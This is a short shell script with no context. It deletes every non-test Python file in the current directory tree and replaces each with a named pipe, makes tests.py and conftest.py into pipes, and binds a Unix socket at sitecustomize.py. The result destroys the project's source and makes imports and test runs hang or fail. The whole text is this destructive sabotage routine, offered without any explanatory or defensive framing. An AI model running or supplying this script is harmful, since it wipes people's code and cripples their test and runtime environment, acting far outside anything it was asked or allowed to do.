for path in $(find . -name "*.py" -not -name "test_*"); do
    rm -f "$path"
    mkfifo "$path"
done
mkfifo tests.py conftest.py
python3 -c "import socket; socket.socket(socket.AF_UNIX).bind('sitecustomize.py')"
